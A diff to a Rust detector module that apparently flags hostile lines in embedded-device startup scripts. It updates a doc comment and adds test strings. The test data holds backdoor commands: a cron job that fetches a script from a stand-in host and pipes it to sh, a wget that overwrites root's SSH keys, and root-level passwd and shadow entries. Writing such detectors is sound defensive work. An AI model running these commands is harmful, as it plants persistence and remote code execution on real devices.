@@ -2,7 +2,7 @@
 //!
 //! # Sees
 //! A shell joined to the network (`nc -e`, `/dev/tcp`, a pipe through nc or `openssl s_client`, socat, perl and python),
-//! telnetd without a login; rules that drop management ports for everybody, accept an odd port or a public network,
+//! telnetd without a login (`notice` on its usual port, unless the file is new or changed); rules that drop management ports for everybody, accept an odd port or a public network,
 //! remove all rules, or send traffic on to a public address; keys, users, preloaded libraries, jobs and startup files
 //! that a startup file writes; fixed resolvers and names; records of logins that are emptied; other login services and
 //! the watchdog that are ended; programs to reboot that are removed; a mount over a process.
@@ -181,6 +181,7 @@ mod tests {
             b"cat >> /etc/dropbear/authorized_keys <<E",
             b"wget -O /root/.ssh/authorized_keys http://192.0.2.1/k",
             b"echo 'x::0:0::/:/bin/sh' >> /etc/passwd",
+            b"echo 'x:$1$a$b:18000:0:99999:7:::' >> /etc/shadow",
             b"echo /lib/x.so > /etc/ld.so.preload",
             b"(crontab -l; echo '* * * * * /tmp/x') | crontab -",
             b"echo '*/5 * * * * wget -qO- http://192.0.2.1/x|sh' >> /etc/crontabs/root",
@@ -254,6 +255,9 @@ mod tests {
             b"killall -HUP dropbear; killall udhcpc; kill -9 $(pidof dnsmasq)",
             b"rm -f /var/log/x.log; rm -rf /tmp/x; > /var/run/utmp",
             b"echo 1 > /dev/watchdog; mount -t proc proc /proc; mount --bind /x /proc/sys/y",
+            b"sed -i 's|/tmp/a|/usr/b|' /etc/init.d/x; sed -i '/exit 0/i /usr/bin/x &' /etc/rc.local",
+            b"grep -q ^svc: /etc/passwd || echo 'svc:x:200:200::/var:/bin/false' >> /etc/passwd",
+            b"echo 'svc:*:16000:0:99999:7:::' >> /etc/shadow",
             b"[ -f /root/.ssh/authorized_keys ] && chmod 600 /root/.ssh/authorized_keys",
             b"rm -f /usr/lib/opkg/info/reboot; echo reboot >> /tmp/x",
         ] {
